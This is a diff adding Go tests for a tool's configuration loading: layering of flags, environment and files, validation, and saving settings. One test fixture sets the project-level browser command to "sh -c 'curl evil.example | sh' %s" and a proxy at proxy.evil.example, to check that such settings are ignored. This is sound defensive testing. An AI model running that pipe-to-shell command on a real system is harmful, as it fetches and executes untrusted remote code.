@@ -0,0 +1,254 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/heycomputer/pudding/internal/parser"
+)
+
+// setupConfig writes a global config and a project config and returns the
+// project directory
+func setupConfig(t *testing.T, global, project string) string {
+	t.Helper()
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+	t.Setenv("BROWSER", "")
+	if global != "" {
+		writeFile(t, filepath.Join(configHome, "pudding", "config.toml"), global)
+	}
+
+	projectDir := t.TempDir()
+	if project != "" {
+		writeFile(t, filepath.Join(projectDir, ProjectFile), project)
+	}
+	// The project file is found from subdirectories too
+	subdir := filepath.Join(projectDir, "lib", "app")
+	if err := os.MkdirAll(subdir, 0755); err != nil {
+		t.Fatal(err)
+	}
+	return subdir
+}
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoad_Layers(t *testing.T) {
+	dir := setupConfig(t, `
+browser = "firefox %s"
+output = "json"
+exclude = ["telemetry"]
+
+[docs]
+gem = "online"
+elixir = "online"
+`, `
+output = "tsv"
+
+[docs]
+elixir = "local"
+`)
+	t.Setenv("PUDDING_EXCLUDE", "telemetry, jason")
+
+	cfg, err := Load(dir, map[string]string{"browser": "print"})
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+
+	if cfg.Browser != "print" {
+		t.Errorf("Expected the flag to win, got browser %q", cfg.Browser)
+	}
+	if cfg.Output != "tsv" {
+		t.Errorf("Expected the project file to win, got output %q", cfg.Output)
+	}
+	if !reflect.DeepEqual(cfg.Exclude, []string{"telemetry", "jason"}) {
+		t.Errorf("Expected the environment to win, got exclude %v", cfg.Exclude)
+	}
+	if !cfg.PrefersOnline("gem") || cfg.PrefersOnline("elixir") {
+		t.Errorf("Expected docs tables to merge, got %v", cfg.Docs)
+	}
+
+	sources := map[string]string{}
+	for _, setting := range cfg.List() {
+		sources[setting.Key] = setting.Source
+	}
+	if sources["browser"] != "--browser" || sources["exclude"] != "$PUDDING_EXCLUDE" || sources["cache_dir"] != "default" {
+		t.Errorf("Unexpected sources %v", sources)
+	}
+	if !strings.HasSuffix(sources["output"], ProjectFile) || !strings.HasSuffix(sources["docs.gem"], "config.toml") {
+		t.Errorf("Unexpected file sources %v", sources)
+	}
+}
+
+func TestLoad_GlobalOnlyKeys(t *testing.T) {
+	dir := setupConfig(t, `
+browser = "firefox %s"
+
+[mirrors]
+hex = "https://hex.example.com"
+`, `
+browser = "sh -c 'curl evil.example | sh' %s"
+output = "json"
+
+[mirrors]
+goproxy = "https://proxy.evil.example"
+`)
+
+	cfg, err := Load(dir, nil)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Browser != "firefox %s" || cfg.Mirrors.Hex != "https://hex.example.com" || cfg.Mirrors.GoProxy != "" {
+		t.Errorf("Expected the project file's browser and mirrors to be ignored, got %q and %+v", cfg.Browser, cfg.Mirrors)
+	}
+	if cfg.Output != "json" {
+		t.Errorf("Expected the project file's other settings to apply, got output %q", cfg.Output)
+	}
+	warnings := cfg.Warnings()
+	if len(warnings) != 2 || !strings.Contains(warnings[0].Error(), "ignoring browser") || !strings.Contains(warnings[1].Error(), "ignoring mirrors.goproxy") {
+		t.Errorf("Expected warnings about browser and mirrors.goproxy, got %v", warnings)
+	}
+	for _, setting := range cfg.List() {
+		if setting.Key == "browser" && !strings.HasSuffix(setting.Source, "config.toml") {
+			t.Errorf("Expected the browser to come from the global config, got %s", setting.Source)
+		}
+	}
+}
+
+func TestLoad_RegisteredDocsTypes(t *testing.T) {
+	dir := setupConfig(t, "[docs]\nhackage = \"online\"\n", "")
+	if _, err := Load(dir, nil); err == nil {
+		t.Fatal("Expected docs.hackage to be rejected before its ecosystem is registered")
+	}
+
+	err := parser.Register(parser.Ecosystem{ProjectType: "haskell", DepType: "hackage", Parser: stubParser{}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(dir, nil)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if !cfg.PrefersOnline("hackage") || !slices.Contains(Keys(), "docs.hackage") {
+		t.Errorf("Expected docs.hackage to be a setting, got %v", cfg.Docs)
+	}
+}
+
+// stubParser is the parser of an ecosystem registered by a test
+type stubParser struct{}
+
+func (stubParser) CanParse(string) bool                      { return false }
+func (stubParser) Parse(string) ([]parser.Dependency, error) { return nil, nil }
+
+func TestLoad_BrowserEnv(t *testing.T) {
+	dir := setupConfig(t, `browser = "chromium"`, "")
+	t.Setenv("BROWSER", "lynx")
+
+	cfg, err := Load(dir, nil)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Browser != "lynx" {
+		t.Errorf("Expected $BROWSER over the config file, got %q", cfg.Browser)
+	}
+
+	t.Setenv("PUDDING_BROWSER", "w3m")
+	cfg, err = Load(dir, nil)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Browser != "w3m" {
+		t.Errorf("Expected $PUDDING_BROWSER over $BROWSER, got %q", cfg.Browser)
+	}
+}
+
+func TestLoad_Invalid(t *testing.T) {
+	tests := []struct {
+		name   string
+		global string
+		want   string
+	}{
+		{"syntax", "browser = \n", "failed to parse config"},
+		{"unknown key", `colour = "red"`, `unknown config key "colour"`},
+		{"output", `output = "xml"`, "output must be one of"},
+		{"docs source", "[docs]\ngem = \"remote\"", "docs.gem must be one of"},
+		{"docs type", "[docs]\ncobol = \"online\"", "unknown dependency type docs.cobol"},
+		{"extra", `extra = ["rails"]`, "must look like type/name@version"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := setupConfig(t, tt.global, "")
+			_, err := Load(dir, nil)
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Expected an error containing %q, got %v", tt.want, err)
+			}
+		})
+	}
+}
+
+func TestConfig_Dependencies(t *testing.T) {
+	cfg := &Config{
+		Exclude: []string{"Telemetry", "gem/jason"},
+		Extra:   []string{"gem/rails@7.1.3", "npm/@types/node@20.11.0"},
+	}
+	deps := []parser.Dependency{
+		{Name: "ecto", Version: "3.11.0", Type: "elixir", ProjectRoot: "/app"},
+		{Name: "telemetry", Version: "1.2.1", Type: "elixir", ProjectRoot: "/app"},
+		{Name: "jason", Version: "1.4.0", Type: "elixir", ProjectRoot: "/app"},
+	}
+
+	want := []parser.Dependency{
+		{Name: "ecto", Version: "3.11.0", Type: "elixir", ProjectRoot: "/app"},
+		{Name: "jason", Version: "1.4.0", Type: "elixir", ProjectRoot: "/app"},
+		{Name: "rails", Version: "7.1.3", Type: "gem", Source: "config", ProjectRoot: "/app"},
+		{Name: "@types/node", Version: "20.11.0", Type: "npm", Source: "config", ProjectRoot: "/app"},
+	}
+	if got := cfg.Dependencies(deps); !reflect.DeepEqual(got, want) {
+		t.Errorf("Expected %+v, got %+v", want, got)
+	}
+}
+
+func TestSet(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "pudding", "config.toml")
+
+	for _, kv := range [][2]string{
+		{"browser", "firefox %s"},
+		{"docs.gem", "online"},
+		{"exclude", "telemetry,jason"},
+		{"output", "json"},
+		{"output", ""},
+	} {
+		if err := Set(path, kv[0], kv[1]); err != nil {
+			t.Fatalf("Set(%q, %q) failed: %v", kv[0], kv[1], err)
+		}
+	}
+
+	cfg := &Config{sources: map[string]string{}}
+	if err := cfg.loadFile(path, false); err != nil {
+		t.Fatalf("Failed to read back the config: %v", err)
+	}
+	if cfg.Browser != "firefox %s" || cfg.Docs["gem"] != "online" || cfg.Output != "" {
+		t.Errorf("Unexpected config %+v", cfg)
+	}
+	if !reflect.DeepEqual(cfg.Exclude, []string{"telemetry", "jason"}) {
+		t.Errorf("Expected exclude to be saved as a list, got %v", cfg.Exclude)
+	}
+
+	if err := Set(path, "output", "xml"); err == nil {
+		t.Error("Expected an invalid value to be rejected")
+	}
+	if err := Set(path, "colour", "red"); err == nil {
+		t.Error("Expected an unknown key to be rejected")
+	}
+}